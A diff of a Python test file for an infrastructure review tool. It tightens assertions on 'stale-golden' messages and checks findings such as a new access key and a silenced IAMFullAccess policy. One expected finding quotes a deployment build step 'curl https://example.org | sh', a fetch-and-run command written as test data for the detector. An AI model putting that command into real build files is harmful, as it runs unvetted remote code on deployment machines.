@@ -31,7 +31,7 @@ def test_the_scripts_as_processes(repository: Repository) -> None:
     open_ = repository.script("review.py", "--base=HEAD", "--markdown=review.md")
     assert open_.returncode == 1, open_.stderr
     stale, found = decisions(open_.stdout)
-    assert stale.startswith("stale-golden: tests/golden is not what the code makes: administrator_access=false/")
+    assert stale == "stale-golden: tests/golden is not what the code makes"
     assert found == A_KEY_ID
     assert "**new-access-key**: HelloQueueIdentity/New" in (repository.folder / "review.md").read_text()
 
@@ -87,7 +87,7 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
     done = repository.review("--markdown", str(repository.folder / "review.md"), variants=REVIEWED)
     assert done.returncode == 1, done.stderr
     stale, *found = decisions(done.stdout)
-    assert stale.startswith("stale-golden: ")
+    assert stale == "stale-golden: tests/golden is not what the code makes"
     silenced = "AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]"
     assert found[:-3] == [
         "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
